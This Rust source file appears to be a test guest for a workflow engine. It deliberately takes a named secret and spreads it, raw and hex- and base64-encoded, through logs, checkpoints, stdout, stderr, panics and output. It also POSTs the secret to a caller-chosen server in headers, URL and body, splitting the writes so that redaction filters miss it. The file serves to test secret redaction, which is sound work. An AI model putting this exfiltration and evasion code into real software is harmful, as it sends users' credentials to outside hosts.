//! Brings its secrets to every place that is kept or shown, and to every server it can reach.
//!
//! Its input is `{"do": "WORDS"}`: a deed, the name of a secret, and an authority.

use std::io::Write;

use apflow_guests::checkpoint::Error;
use apflow_guests::{Executor, Fault, Outcome, Task, checkpoint, executor, log, secret};
use wasip2::http::outgoing_handler::handle;
use wasip2::http::types::{
    ErrorCode, Fields, IncomingResponse, Method, OutgoingBody, OutgoingRequest, Scheme,
};

struct LeaksSecrets;

impl Executor for LeaksSecrets {
    fn execute(_: Task, input: String) -> Result<Outcome, Fault> {
        let words: Vec<&str> = input.split('"').nth(3).unwrap_or_default().split(' ').collect();
        let [deed, name, authority] = words[..] else {
            return Err(Fault::InvalidInput("expected a deed, a name and an authority".into()));
        };
        let found = match secret::get(name) {
            Ok(found) => found,
            Err(error) => return Err(Fault::Permanent(error.to_string())),
        };
        let sent = send(deed, &found, authority);
        let said = sent.unwrap_or_else(|error| format!("not sent: {error:?}"));
        let all = format!("{found} {} {} {said}", hex(&found), base64(&found));
        tell(&all);
        match deed {
            "panic" => {
                #[expect(clippy::panic, reason = "the deed")]
                {
                    panic!("{all}");
                }
            }
            "fault" => Err(Fault::Permanent(all)),
            _ => Ok(Outcome { output: format!("\"{}\"", escape(&all)), usage: None }),
        }
    }
}

executor!(LeaksSecrets);

/// Writes a text to everything that is kept while the attempt goes on.
fn tell(all: &str) {
    let field = log::Field { name: all.to_owned(), value: all.to_owned() };
    log::write(log::Level::Info, all, &[field]);
    log::progress(0.5, all);
    let word = match checkpoint::save(all, all.as_bytes()) {
        Ok(()) => "saved".to_owned(),
        Err(Error::Unavailable(reason)) => format!("not saved: {reason}"),
        Err(error) => format!("not saved: {error}"),
    };
    log::write(log::Level::Info, &word, &[]);
    drop(writeln!(std::io::stdout(), "{all}"));
    drop(writeln!(std::io::stderr(), "{all}"));
}

/// Sends a secret in every part of a request, or only in its body, and gives what came back.
fn send(deed: &str, secret: &str, authority: &str) -> Result<String, ErrorCode> {
    let unfit = |()| ErrorCode::HttpRequestUriInvalid;
    let is_body_only = deed == "body";
    let headers = Fields::new();
    let length = escape(secret).len() + 10;
    let mut fields = vec![
        ("content-type", "application/json".to_owned()),
        ("accept-encoding", "gzip".to_owned()),
    ];
    if deed != "chunked" {
        fields.push(("content-length", length.to_string()));
    }
    if !is_body_only {
        fields.push(("x-key", format!("key={secret};")));
        fields.push(("authorization", format!("Basic {}", base64(&format!("me:{secret}")))));
    }
    for (name, value) in fields {
        let refused = |_| ErrorCode::HttpRequestHeaderSize(None);
        headers.append(name, value.as_bytes()).map_err(refused)?;
    }
    let request = OutgoingRequest::new(headers);
    request.set_method(&Method::Post).map_err(unfit)?;
    request.set_scheme(Some(&Scheme::Http)).map_err(unfit)?;
    request.set_authority(Some(authority)).map_err(unfit)?;
    let in_url = percent(secret);
    let path = if is_body_only { "/".to_owned() } else { format!("/bot{in_url}/x?key={in_url}") };
    request.set_path_with_query(Some(&path)).map_err(unfit)?;
    let body = request.body().map_err(unfit)?;
    let answer = handle(request, None)?;
    {
        let stream = body.write().map_err(unfit)?;
        // In two pieces, so that the secret is in neither.
        let written = format!("{{\"key\":\"{}\"}}", escape(secret));
        for piece in [&written[..12], &written[12..]] {
            drop(stream.blocking_write_and_flush(piece.as_bytes()));
        }
    }
    drop(OutgoingBody::finish(body, None));
    answer.subscribe().block();
    let taken = answer.get().and_then(Result::ok);
    read(&taken.ok_or(ErrorCode::ConnectionTerminated)??)
}

fn read(answer: &IncomingResponse) -> Result<String, ErrorCode> {
    let unfit = |()| ErrorCode::HttpProtocolError;
    let mut said = format!("{} {:?}", answer.status(), answer.headers().entries());
    let body = answer.consume().map_err(unfit)?;
    let stream = body.stream().map_err(unfit)?;
    // A small piece at a time: what is hidden must be hidden across pieces.
    while let Ok(piece) = stream.blocking_read(7) {
        said.push_str(&String::from_utf8_lossy(&piece));
    }
    Ok(said)
}

/// A text as JSON writes it, without the quotes.
fn escape(text: &str) -> String {
    text.replace('\\', "\\\\").replace('"', "\\\"").replace('\n', "\\n")
}

fn percent(text: &str) -> String {
    text.chars().fold(String::new(), |url, c| match c {
        c if c.is_ascii_alphanumeric() || c == '-' => url + &c.to_string(),
        c => format!("{url}%{:02x}", u32::from(c)),
    })
}

fn hex(text: &str) -> String {
    text.bytes().fold(String::new(), |hex, byte| format!("{hex}{byte:02x}"))
}

fn base64(text: &str) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut encoded = String::new();
    for piece in text.as_bytes().chunks(3) {
        let at = |index: usize| u32::from(piece.get(index).copied().unwrap_or(0));
        let bits = at(0) << 16 | at(1) << 8 | at(2);
        for place in 0..4 {
            let index = (bits >> (18 - 6 * place)) & 63;
            let character = ALPHABET[usize::try_from(index).unwrap_or(0)];
            encoded.push(if place <= piece.len() { char::from(character) } else { '=' });
        }
    }
    encoded
}
